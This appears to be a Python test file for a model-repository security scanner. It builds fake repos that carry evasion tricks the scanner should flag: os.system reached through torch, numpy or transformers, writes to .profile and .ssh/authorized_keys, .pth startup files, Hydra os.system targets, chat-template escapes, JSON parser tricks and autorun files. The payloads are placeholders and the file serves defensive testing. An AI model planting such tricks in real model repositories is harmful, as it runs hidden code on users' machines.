"""Evasions that an outside attacker of model repositories found first."""

import json

from tests.samples import safetensors_file
from tests.samples.case import HARD, NOT_CLEAN, Case
from tests.samples.templates import ESCAPES

CONFIG = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "transformers_version": "4.40.0"}
CUSTOM = {**CONFIG, "auto_map": {"AutoModel": "m.X"}}
ESCAPE = ESCAPES["cycler"]


def _case(name: str, subject: str, expect: frozenset[str], lesson: str, files: dict[str, object]) -> Case:
    def build() -> dict[str, bytes]:
        whole = {"model.safetensors": safetensors_file.small(), "config.json": CONFIG, **files}
        return {
            f"repo/{path}": content if isinstance(content, bytes) else json.dumps(content).encode()
            for path, content in whole.items()
        }

    return Case(id=f"red/{name}", build=build, subject=f"repo/{subject}", expect=expect, lesson=lesson)


def _code(name: str, source: str, lesson: str) -> Case:
    return _case(name, "m.py", HARD, lesson, {"config.json": CUSTOM, "m.py": source.encode()})


EVASIONS = (
    _code("code-through-torch", "import torch\ntorch.os.system('x')\n", "libraries carry the system modules"),
    _code("code-through-numpy", "import numpy as np\nnp.f2py.os.system('x')\n", "libraries carry the system modules"),
    _code(
        "code-through-transformers",
        "from transformers.utils import import_utils\nimport_utils.importlib.import_module('os').system('x')\n",
        "libraries carry the system modules",
    ),
    _code("code-writes-on-import", "open('/home/a/.profile', 'a').write('x')\n", "start-up files"),
    _code(
        "code-writes-with-pathlib",
        "from pathlib import Path\n(Path.home() / '.ssh/authorized_keys').write_text('x')\n",
        "start-up files",
    ),
    _code(
        "code-torch-hub-on-import",
        "import torch\nm = torch.hub.load('someone/else', 'm', trust_repo=True)\n",
        "code of a third party",
    ),
    _case(
        "code-two-folders-deep",
        "sub/h.py",
        HARD,
        "packages in packages",
        {
            "config.json": CUSTOM,
            "m.py": b"from .sub import h\n",
            "sub/__init__.py": b"from . import h\n",
            "sub/h.py": b"import os\nos.system('x')\n",
        },
    ),
    _case("code-triton-server", "1/model.py", HARD, "Triton runs it", {"1/model.py": b"import os\nos.system('x')\n"}),
    _case("code-in-scripts", "scripts/run.py", NOT_CLEAN, "", {"scripts/run.py": b"import os\nos.system('x')\n"}),
    _case("program-deep", "bin/x/tool", NOT_CLEAN, "", {"bin/x/tool": b"\x7fELF\x02\x01\x01" + bytes(80)}),
    _case("startup-file", "a.pth", NOT_CLEAN, "site runs these lines", {"a.pth": b"import os;os.system('x')\n"}),
    _case("compiled-python", "m.pyc", NOT_CLEAN, "", {"m.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(90)}),
    _case("shortcut", "readme.url", NOT_CLEAN, "", {"readme.url": b"[InternetShortcut]\nURL=file://host/x.exe\n"}),
    _case("autorun", "autorun.inf", NOT_CLEAN, "", {"autorun.inf": b"[autorun]\nopen=x.exe\n"}),
    _case("template-j2", "chat_template.j2", HARD, "", {"chat_template.j2": ESCAPE.encode()}),
    _case(
        "template-first-of-two",
        "tokenizer_config.json",
        HARD,
        "loaders differ in which of two keys they take",
        {"tokenizer_config.json": f'{{"chat_template": {json.dumps(ESCAPE)}, "chat_template": "ok"}}'.encode()},
    ),
    _case(
        "template-byte-order-mark",
        "tokenizer_config.json",
        HARD,
        "a mark that strict parsers refuse and lenient ones skip",
        {"tokenizer_config.json": b"\xef\xbb\xbf" + json.dumps({"chat_template": ESCAPE}).encode()},
    ),
    _case(
        "dense-activation",
        "config.json",
        HARD,
        "a Dense module imports and calls its activation",
        {"config.json": {**CONFIG, "activation_function": "os.getcwd"}},
    ),
    _case(
        "hydra-beside-weights",
        "model_config.yaml",
        HARD,
        "unpacked NeMo",
        {"model_config.yaml": b"model:\n  _target_: os.system\n  command: x\n"},
    ),
    _case(
        "onnx-custom-library",
        "genai_config.json",
        NOT_CLEAN,
        "a native library that the runtime loads",
        {"genai_config.json": {"model": {"decoder": {"session_options": {"custom_ops_library": "./x.so"}}}}},
    ),
)
BENIGN: tuple[Case, ...] = ()
